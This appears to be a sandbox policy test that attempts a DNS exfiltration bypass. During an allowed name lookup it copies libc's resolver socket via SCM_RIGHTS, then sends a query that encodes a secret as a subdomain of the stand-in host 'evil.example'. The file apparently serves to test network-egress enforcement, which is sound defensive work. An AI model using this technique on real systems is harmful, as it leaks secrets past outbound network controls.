# class: network
# rule: outbound_connectivity
# policy: lookups.yaml
# success: libc's socket to the name server is passed over AF_UNIX during a lookup of an allowed
#   name, and used afterwards
# proof: query
# needs: resolver
# quiet: no other thread has an fd for what libc opens in a lookup
# alerts: true
# timeout: 40
import os
import socket
import struct

from attack import SECRET, attempt, beside_lookups, is_asking, question


@attempt
def ask():
    ours, theirs = socket.socketpair()
    kept = []

    def keep(fd):
        ours.sendmsg([b"."], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("i", fd))])
        _, control, _, _ = theirs.recvmsg(1, socket.CMSG_SPACE(4))
        copy = struct.unpack("i", control[0][2][:4])[0]
        if is_asking(copy):
            kept.append(copy)
        return kept

    return beside_lookups(is_asking, keep) and os.write(kept[0], question(SECRET + ".evil.example"))
